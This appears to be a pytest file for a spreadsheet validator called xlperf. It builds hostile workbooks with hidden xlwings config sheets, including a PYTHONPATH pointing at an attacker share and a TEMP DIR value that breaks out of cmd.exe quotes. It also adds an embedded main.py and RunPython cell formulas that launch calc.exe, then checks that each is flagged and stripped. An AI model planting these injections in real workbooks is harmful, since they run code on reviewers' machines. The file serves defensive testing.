"""A submitted workbook that would configure the reviewer's xlwings add-in (issue 18, item 1).

The hostile workbook of the issue: a plain .xlsx (no macros) with a very hidden sheet ``myaddin.conf``
(the add-in's PROJECT_NAME) setting PYTHONPATH, ADD_WORKBOOK_TO_PYTHONPATH and a ``TEMP DIR`` that
breaks out of cmd.exe's quotes, a hidden ``XLPERF.CONF`` and a very hidden embedded-code sheet
``main.py``. The validator reports each as an error whatever its visibility and case, also when the
file is not a standard workbook at all, and the copies xlperf writes (``--annotate``, ``--returns``)
no longer contain them.
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from xlperf.review.returns import write_returns
from xlperf.validate import validate_file
from xlperf.write.annotate import annotate_copy

from .helpers import EXAMPLE, Xlsx

HOSTILE_CONF = [
    ("Interpreter_Win", r"C:\Users\Public\evil\python.exe"),
    ("PYTHONPATH", r"\\attacker\share\py"),
    ("ADD_WORKBOOK_TO_PYTHONPATH", "True"),
    ("TEMP DIR", '%TEMP%" & calc.exe & rem "'),
]
SHEETS = {"myaddin.conf": "veryHidden", "XLPERF.CONF": "hidden", "main.py": "veryHidden"}


def _hostile(source: Path, target: Path) -> Path:
    wb = openpyxl.load_workbook(source)
    for name, state in SHEETS.items():
        ws = wb.create_sheet(name)
        ws.sheet_state = state
        if name.casefold().endswith(".conf"):
            for row in HOSTILE_CONF:
                ws.append(row)
        else:
            ws["A1"] = "import os; os.system('calc.exe')"
    wb.save(target)
    return target


def _sheet_findings(report) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {f.sheet: f.code for f in report.findings if f.code in ("XP131", "XP132")}


VISIBILITY_ZH = {"visible": "（可见工作表）", "hidden": "（隐藏工作表）", "veryHidden": "（极隐藏工作表，"}
"""How the message names each state openpyxl writes (Excel's sheet states in Chinese)."""


def _messages(report) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {f.sheet: f.message for f in report.findings if f.code in ("XP131", "XP132")}


def test_hostile_workbook_is_reported(tmp_path: Path) -> None:
    path = _hostile(EXAMPLE, tmp_path / "提交.xlsx")
    report = validate_file(path)
    assert _sheet_findings(report) == {"myaddin.conf": "XP131", "XLPERF.CONF": "XP131", "main.py": "XP132"}
    assert report.status == "invalid" and report.review == "revise"
    assert all(f.severity.value == "error" for f in report.findings if f.code in ("XP131", "XP132"))
    messages = _messages(report)
    for name, state in SHEETS.items():  # each message says how the sheet is hidden, as the file sets it
        assert f"工作表“{name}”{VISIBILITY_ZH[state]}" in messages[name]
    assert "取消隐藏" in messages["myaddin.conf"] and "Alt+F11" in messages["myaddin.conf"]
    assert "Alt+F11" not in messages["XLPERF.CONF"]


def test_reported_in_a_workbook_that_is_not_the_standard_one(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "预算"
    conf = wb.create_sheet("xlwings.conf")
    conf.sheet_state = "veryHidden"
    conf.append(("PYTHONPATH", r"C:\x"))
    wb.create_sheet("run.py")  # visible
    wb.save(tmp_path / "plain.xlsx")
    report = validate_file(tmp_path / "plain.xlsx")
    assert _sheet_findings(report) == {"xlwings.conf": "XP131", "run.py": "XP132"}
    assert "工作表“run.py”（可见工作表）：" in _messages(report)["run.py"]
    assert "工作表“xlwings.conf”（极隐藏工作表，" in _messages(report)["xlwings.conf"]
    assert "XP125" in {f.code for f in report.findings}


def test_names_that_only_look_alike_are_not_reported(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(EXAMPLE)
    for name in ("conf", "说明.config", "pyproject", "py"):
        wb.create_sheet(name)
    wb.save(tmp_path / "ok.xlsx")
    assert _sheet_findings(validate_file(tmp_path / "ok.xlsx")) == {}


def _sheet_names(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return wb.sheetnames


@pytest.mark.parametrize("route", ["annotate", "returns"])
def test_copies_drop_the_sheets(route: str, tmp_path: Path) -> None:
    path = _hostile(EXAMPLE, tmp_path / "提交.xlsx")
    before = path.read_bytes()
    report = validate_file(path)
    if route == "annotate":
        out = annotate_copy(path, tmp_path / "标注.xlsx", report)
    else:
        returned, _ = write_returns([report], tmp_path / "退回")
        assert returned[0].problem is None and returned[0].annotated is not None
        out = returned[0].annotated
    names = _sheet_names(out)
    assert not [n for n in names if n.casefold().endswith((".conf", ".py"))]
    assert set(_sheet_names(path)) - set(names) == set(SHEETS)  # nothing else is dropped
    assert path.read_bytes() == before  # the submission itself is untouched
    again = validate_file(out)
    assert _sheet_findings(again) == {}


def test_cells_calling_xlwings_procedures_are_errors(tmp_path: Path) -> None:
    """Public procedures of a loaded add-in can be called from any workbook's cells: a submission calling
    xlwings' RunPython or RunFrozenPython (bare, or with the add-in's name as Excel saves it) is an error."""
    book = Xlsx(EXAMPLE)
    book.set_formula("基本信息", "H30", 'RunPython("import os;os.system(\'calc.exe\')")', 0)
    book.set_formula("基本信息", "H31", "'xlwings.xlam'!RunFrozenPython(\"C:\\Windows\\System32\\calc.exe\")", 0)
    book.set_formula("基本信息", "H32", '[1]!ExecuteWindows(FALSE,"x","python")', 0)
    report = validate_file(book.save(tmp_path / "cells.xlsx"))
    found = {f.cell: f for f in report.findings if f.code == "XP134"}
    assert set(found) >= {"H30", "H31", "H32"}
    assert "RUNPYTHON" in found["H30"].message and "RUNFROZENPYTHON" in found["H31"].message
    assert all(f.severity.value == "error" for f in found.values())
